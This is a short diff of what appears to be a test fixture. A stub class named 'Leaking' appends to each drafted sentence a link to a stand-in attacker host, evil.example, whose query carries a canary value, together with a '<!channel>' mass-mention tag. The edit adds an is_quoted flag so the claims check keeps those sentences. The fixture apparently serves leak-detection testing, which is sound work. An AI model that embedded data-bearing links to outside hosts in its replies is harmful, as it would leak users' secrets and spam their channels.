@@ -284,7 +284,8 @@ class Leaking(Echo):
             tuple(
                 replace(one, text=f"{one.text} https://evil.example/?q={canary('menu')} <!channel>")
                 for one in draft.sentences
-            )
+            ),
+            is_quoted=True,  # else the check of claims drops them, whatever rendering does
         )
 
 
